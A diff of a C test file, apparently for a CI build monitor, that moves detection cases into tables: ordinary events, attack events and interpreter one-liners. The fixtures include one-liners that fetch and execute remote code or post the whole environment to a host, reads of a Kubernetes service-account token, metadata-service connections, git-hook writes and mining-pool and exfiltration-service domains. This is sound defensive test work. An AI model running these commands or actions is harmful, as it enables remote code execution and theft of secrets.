@@ -2053,6 +2053,15 @@ static const struct event_case ordinary_events[] = {
 	{ BW_ON_PRIVILEGE, "setgid", NULL, 0, false, NULL },
 	{ BW_ON_PRIVILEGE, "mount", NULL, 0, false, NULL },
 	{ BW_ON_PRIVILEGE, "memfd", NULL, 0, false, NULL },
+	/* names that only end like a pool's or a catcher's; the address beside the
+	 * metadata service; a pod's CA certificate; git init's sample hooks */
+	{ BW_ON_DNS, NULL, "supportxmr.com.example.net", 1, false, NULL },
+	{ BW_ON_DNS, NULL, "notwebhook.site", 1, false, NULL },
+	{ BW_ON_CONNECT, NULL, "169.254.169.253", 53, false, NULL },
+	{ BW_ON_FILE, "open-read", "/run/secrets/kubernetes.io/serviceaccount/ca.crt", 0, false,
+	  NULL },
+	{ BW_ON_FILE, "open-write", "/home/ci/src/project/.git/hooks/pre-commit.sample", 0, false,
+	  NULL },
 };
 
 static const struct event_case attack_events[] = {
@@ -2069,6 +2078,17 @@ static const struct event_case attack_events[] = {
 	{ BW_ON_PRIVILEGE, "module", NULL, 0, false, "kernel-module-load" },
 	/* bpf() is recorded, not alerted on: builds that test eBPF tools use it */
 	{ BW_ON_PRIVILEGE, "bpf", NULL, 0, false, NULL },
+	{ BW_ON_FILE, "open-read", "/run/secrets/kubernetes.io/serviceaccount/token", 0, false,
+	  "credential-file-access" },
+	{ BW_ON_FILE, "open-write", "/home/ci/src/project/.git/hooks/post-checkout", 0, false,
+	  "persistence-write" },
+	{ BW_ON_CONNECT, NULL, "169.254.169.254", 80, false, "cloud-metadata-access" },
+	/* a public mining pool, a request catcher or tunnel, whoever asks */
+	{ BW_ON_DNS, NULL, "gulf.moneroocean.stream", 1, false, "crypto-miner-pool-dns" },
+	{ BW_ON_DNS, NULL, "supportxmr.com.", 28, false, "crypto-miner-pool-dns" },
+	{ BW_ON_DNS, NULL, "webhook.site", 1, false, "exfiltration-service-dns" },
+	{ BW_ON_DNS, NULL, "c59eq0pboo2h.oast.fun", 1, false, "exfiltration-service-dns" },
+	{ BW_ON_DNS, NULL, "abc.ngrok-free.app", 28, false, "exfiltration-service-dns" },
 };
 
 static void run_event_cases(const struct bw_policy *p, const struct event_case *c, size_t n)
@@ -2266,14 +2286,10 @@ static void test_default_provenance(void **state)
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
 	e = ev_file(&x, "open-write", "/home/ci/src/project/.profile.d/x", NULL, 0, false);
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
-	/* a runner pod's service account token, read by anything but kubectl and kin */
+	/* a runner pod's service account token read by kubectl (attack_events: by curl) */
 	e = ev_file(&x, "open-read", "/run/secrets/kubernetes.io/serviceaccount/token", NULL, 0,
 		    false);
-	assert_true(ev_matches(p, e, "credential-file-access"));
 	fx_set(&x.proc, "/usr/local/bin/kubectl", ARGV("kubectl", "apply", "-f", "k.yaml"), NPM_ANC);
-	assert_false(ev_matches(p, e, "credential-file-access"));
-	e = ev_file(&x, "open-read", "/run/secrets/kubernetes.io/serviceaccount/ca.crt", NULL, 0,
-		    false);
 	assert_false(ev_matches(p, e, "credential-file-access"));
 	/* scp copying a private key away; ssh reading it as its identity */
 	e = ev_file(&x, "open-read", "/home/ci/.ssh/id_ed25519", NULL, 0, false);
@@ -2281,59 +2297,62 @@ static void test_default_provenance(void **state)
 	assert_true(ev_matches(p, e, "credential-file-access"));
 	fx_set(&x.proc, "/usr/bin/ssh", ARGV("ssh", "-i", "/home/ci/.ssh/id_ed25519", "h"), NPM_ANC);
 	assert_false(ev_matches(p, e, "credential-file-access"));
-	/* a public mining pool asked for, by any program */
-	e = ev_dns(&x, "gulf.moneroocean.stream", 1);
-	assert_true(ev_matches(p, e, "crypto-miner-pool-dns"));
-	e = ev_dns(&x, "supportxmr.com.", 28);
-	assert_true(ev_matches(p, e, "crypto-miner-pool-dns"));
-	e = ev_dns(&x, "supportxmr.com.example.net", 1);
-	assert_false(ev_matches(p, e, "crypto-miner-pool-dns"));
-	/* request catchers and tunnels; a name that only ends alike is not one */
-	e = ev_dns(&x, "webhook.site", 1);
-	assert_true(ev_matches(p, e, "exfiltration-service-dns"));
-	e = ev_dns(&x, "c59eq0pboo2h.oast.fun", 1);
-	assert_true(ev_matches(p, e, "exfiltration-service-dns"));
-	e = ev_dns(&x, "abc.ngrok-free.app", 28);
-	assert_true(ev_matches(p, e, "exfiltration-service-dns"));
-	e = ev_dns(&x, "notwebhook.site", 1);
-	assert_false(ev_matches(p, e, "exfiltration-service-dns"));
-	/* the instance metadata service, by anything but a cloud CLI */
-	e = ev_connect(&x, "169.254.169.254", 80, "tcp", NULL, 0);
-	assert_true(ev_matches(p, e, "cloud-metadata-access"));
+	/* the instance metadata service, refused, by a cloud CLI (attack_events: by curl) */
 	e = ev_connect(&x, "fd00:ec2::254", 80, "tcp", NULL, -110);
 	assert_true(ev_matches(p, e, "cloud-metadata-access"));
 	fx_set(&x.proc, "/usr/local/bin/aws", ARGV("aws", "s3", "cp", "a", "s3://b/a"), NPM_ANC);
 	assert_false(ev_matches(p, e, "cloud-metadata-access"));
-	e = ev_connect(&x, "169.254.169.253", 53, "udp", NULL, 0);
-	assert_false(ev_matches(p, e, "cloud-metadata-access"));
-	/* a git hook in the workspace; git init's samples are not */
-	e = ev_file(&x, "open-write", "/home/ci/src/project/.git/hooks/post-checkout", NULL, 0,
-		    false);
-	assert_true(ev_matches(p, e, "persistence-write"));
+	/* a git hook renamed into place (attack_events: written) */
 	e = ev_file(&x, "rename", "/tmp/h", "/home/ci/src/project/.git/hooks/pre-push", 0, false);
 	assert_true(ev_matches(p, e, "persistence-write"));
-	e = ev_file(&x, "open-write", "/home/ci/src/project/.git/hooks/pre-commit.sample", NULL, 0,
-		    false);
-	assert_int_equal(policy_match_event(p, e, out, 8), 0);
 	policy_free(p);
 }
 
-/* An interpreter's one-liner (-c, -e) connects to a web server: does rule match? */
-static bool oneliner_connects(const struct bw_policy *p, struct evx *x, const char *exe,
-			      const char *const *argv, const char *rule)
-{
-	struct bw_event_info *e = ev_connect(x, "185.199.108.133", 443, "tcp", NULL, 0);
+/* An interpreter's one-liner (-c, -e) that connects to a web server; does rule fire? */
+struct oneliner_case {
+	const char *exe;
+	const char *const *argv;
+	const char *rule;
+	bool fires;
+};
 
-	fx_set(&x->proc, exe, argv, NPM_ANC);
-	x->proc.e.program_from = BW_PROG_ARGUMENT;
-	return ev_matches(p, e, rule);
-}
+#define PY "/usr/bin/python3.11"
+#define FETCH_EVAL "interpreter-fetch-eval"
+#define ENV_SENT "environment-sent-by-interpreter"
+
+static const struct oneliner_case oneliners[] = {
+	/* evaluates what it fetched: a stager; not a one-liner that only fetches */
+	{ PY, ARGV("python3", "-c", "import urllib.request as r; exec(r.urlopen(u).read())"),
+	  FETCH_EVAL, true },
+	{ "/usr/bin/perl", ARGV("perl", "-MLWP::Simple", "-e", "eval get($u)"), FETCH_EVAL, true },
+	{ PY, ARGV("python3", "-c", "import os,urllib.request as r; os.system(r.urlopen(u).read())"),
+	  FETCH_EVAL, true },
+	{ PY, ARGV("python3", "-c", "import urllib.request as r; print(r.urlopen(u).status)"),
+	  FETCH_EVAL, false },
+	{ PY, ARGV("python3", "-c", "exec(a)"), FETCH_EVAL, true },
+	/* takes the whole environment: its upload; not one variable of it */
+	{ PY,
+	  ARGV("python3", "-c",
+	       "import os,urllib.request as u; u.urlopen(h, data=repr(dict(os.environ)).encode())"),
+	  ENV_SENT, true },
+	{ PY, ARGV("python3", "-c", "import os,requests; requests.post(h, json=os.environ.copy())"),
+	  ENV_SENT, true },
+	{ "/usr/bin/node",
+	  ARGV("node", "-e", "fetch(h,{method:'POST',body:JSON.stringify(process.env)})"), ENV_SENT,
+	  true },
+	{ "/usr/bin/perl", ARGV("perl", "-MHTTP::Tiny", "-e", "HTTP::Tiny->new->post_form($u, {%ENV})"),
+	  ENV_SENT, true },
+	{ PY, ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ['URL'])"),
+	  ENV_SENT, false },
+	{ PY, ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ.get('U'))"),
+	  ENV_SENT, false },
+	{ "/usr/bin/node", ARGV("node", "-e", "fetch(process.env.URL)"), ENV_SENT, false },
+	{ "/usr/bin/perl", ARGV("perl", "-e", "print $ENV{HOME}"), ENV_SENT, false },
+};
 
 /* The default's rules on what an interpreter's one-liner does once it connects. */
 static void test_default_oneliners_on_connect(void **state)
 {
-	const char *py = "/usr/bin/python3.11", *fe = "interpreter-fetch-eval",
-		   *es = "environment-sent-by-interpreter";
 	struct bw_policy *p = NULL;
 	const struct bw_rule *out[8];
 	struct bw_event_info *e;
@@ -2341,51 +2360,31 @@ static void test_default_oneliners_on_connect(void **state)
 
 	(void)state;
 	assert_int_equal(policy_load_default(&p, stderr), 0);
-	/* evaluates what it fetched: a stager */
-	assert_true(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c", "import urllib.request as r; exec(r.urlopen(u).read())"), fe));
-	assert_true(oneliner_connects(p, &x, "/usr/bin/perl",
-		ARGV("perl", "-MLWP::Simple", "-e", "eval get($u)"), fe));
-	assert_true(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c", "import os,urllib.request as r; os.system(r.urlopen(u).read())"),
-		fe));
-	/* ... not a one-liner that only fetches, nor a script file, nor its DNS query */
-	assert_false(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c", "import urllib.request as r; print(r.urlopen(u).status)"), fe));
+	for (size_t i = 0; i < sizeof(oneliners) / sizeof(oneliners[0]); i++) {
+		const struct oneliner_case *c = &oneliners[i];
+
+		e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
+		fx_set(&x.proc, c->exe, c->argv, NPM_ANC);
+		x.proc.e.program_from = BW_PROG_ARGUMENT;
+		if (ev_matches(p, e, c->rule) != c->fires)
+			fail_msg("one-liner %zu (%s): rule '%s' %s", i, c->argv[2] ? c->argv[2] : "",
+				 c->rule, c->fires ? "did not fire" : "fired");
+	}
+	/* Not a script file's arguments, nor the one-liner's DNS query. */
 	e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
-	fx_set(&x.proc, py, ARGV("python3", "fetch.py", "exec(x)"), NPM_ANC);
+	fx_set(&x.proc, PY, ARGV("python3", "fetch.py", "exec(x)"), NPM_ANC);
 	x.proc.e.program_from = BW_PROG_FILE;
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
-	assert_true(oneliner_connects(p, &x, py, ARGV("python3", "-c", "exec(a)"), fe));
 	e = ev_connect(&x, "127.0.0.53", 53, "udp", NULL, 0);
-	fx_set(&x.proc, py, ARGV("python3", "-c", "exec(a)"), NPM_ANC);
+	fx_set(&x.proc, PY, ARGV("python3", "-c", "exec(a)"), NPM_ANC);
 	x.proc.e.program_from = BW_PROG_ARGUMENT;
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
-	/* takes the whole environment: its upload */
-	assert_true(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c",
-		     "import os,urllib.request as u; u.urlopen(h, data=repr(dict(os.environ)).encode())"),
-		es));
-	assert_true(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c", "import os,requests; requests.post(h, json=os.environ.copy())"),
-		es));
-	assert_true(oneliner_connects(p, &x, "/usr/bin/node",
-		ARGV("node", "-e", "fetch(h,{method:'POST',body:JSON.stringify(process.env)})"), es));
-	assert_true(oneliner_connects(p, &x, "/usr/bin/perl",
-		ARGV("perl", "-MHTTP::Tiny", "-e", "HTTP::Tiny->new->post_form($u, {%ENV})"), es));
-	/* ... not one variable of it */
-	assert_false(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ['URL'])"),
-		es));
-	assert_false(oneliner_connects(p, &x, py,
-		ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ.get('U'))"),
-		es));
-	assert_false(oneliner_connects(p, &x, "/usr/bin/node",
-		ARGV("node", "-e", "fetch(process.env.URL)"), es));
-	assert_false(oneliner_connects(p, &x, "/usr/bin/perl",
-		ARGV("perl", "-e", "print $ENV{HOME}"), es));
 	policy_free(p);
 }
+
+#undef PY
+#undef FETCH_EVAL
+#undef ENV_SENT
 
 static void test_default_catches_attacks(void **state)
 {
